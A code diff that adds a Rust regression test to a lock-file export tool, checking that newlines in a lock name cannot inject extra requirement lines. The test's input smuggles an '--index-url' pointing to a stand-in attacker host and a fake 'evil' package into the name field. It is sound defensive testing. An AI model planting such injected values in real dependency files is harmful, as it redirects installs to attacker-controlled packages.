@@ -645,3 +645,16 @@ fn patch_versions_are_used_only_when_two_targets_share_a_minor() {
         }
     }
 }
+
+#[test]
+fn a_lock_name_built_in_memory_cannot_add_a_requirement_line() {
+    let mut lock = fixture("marker-gate.lock");
+    lock.name = "kit\n--index-url http://evil.invalid/simple\nevil==1.0".to_owned();
+    let text = export_requirements(&lock, None).unwrap();
+    assert!(
+        text.lines()
+            .all(|line| !line.starts_with("--index-url") && !line.starts_with("evil")),
+        "{text}"
+    );
+    assert!(text.starts_with("# Written by `envlock export` from the lock `kit --index-url"));
+}
